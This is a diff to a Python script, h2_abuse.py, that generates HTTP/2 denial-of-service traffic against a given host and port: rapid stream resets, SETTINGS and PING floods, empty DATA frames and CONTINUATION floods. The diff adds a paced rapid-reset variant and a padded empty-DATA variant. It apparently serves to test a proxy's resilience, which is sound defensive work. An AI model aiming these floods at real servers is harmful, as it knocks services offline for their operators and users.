@@ -5,11 +5,14 @@ usage: h2_abuse.py HOST PORT SCENARIO [ARGS]
   rapid-reset N          N streams each opened (HEADERS) and cancelled (RST_STREAM) at once
   settings N             N SETTINGS frames
   ping N                 N PING frames
+  rapid-reset-paced N    the same, each pair in a write of its own (the proxy reads them as they come)
   empty-data N           one POST stream, then N DATA frames without data and without END_STREAM
+  empty-data-padded N    the same with padding only: PADDED, every payload byte padding
   continuation N MODE    one request whose header block has N CONTINUATION frames; MODE "split" spreads the
                          block over them, "empty" sends it whole in HEADERS and N empty CONTINUATION frames
 """
 
+import socket
 import sys
 
 from hyperframe.frame import ContinuationFrame, DataFrame, HeadersFrame, PingFrame, RstStreamFrame, SettingsFrame
@@ -25,6 +28,13 @@ def main(host, port, scenario, *args):
             sid = 1 + 2 * i
             out += c.headers_frame(sid, get("/reset/%d" % i)).serialize()
             out += RstStreamFrame(sid, error_code=8).serialize()
+    elif scenario == "rapid-reset-paced":
+        c.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
+        for i in range(int(args[0])):
+            sid = 1 + 2 * i
+            if not c.send(c.headers_frame(sid, get("/reset/%d" % i)).serialize()
+                          + RstStreamFrame(sid, error_code=8).serialize()):
+                break
     elif scenario == "settings":
         for i in range(int(args[0])):
             out += SettingsFrame(0, settings={SettingsFrame.INITIAL_WINDOW_SIZE: 65535 + i}).serialize()
@@ -35,6 +45,10 @@ def main(host, port, scenario, *args):
         out += c.headers_frame(1, get("/upload", method="POST"), end_stream=False).serialize()
         for _ in range(int(args[0])):
             out += DataFrame(1, data=b"").serialize()
+    elif scenario == "empty-data-padded":
+        out += c.headers_frame(1, get("/upload", method="POST"), end_stream=False).serialize()
+        for _ in range(int(args[0])):
+            out += DataFrame(1, data=b"", pad_length=8, flags=["PADDED"]).serialize()
     elif scenario == "continuation":
         n, mode = int(args[0]), args[1]
         block = c.block_of(get("/continued", extra=[("x-pad-%d" % i, "v" * 8) for i in range(max(n, 1))]))
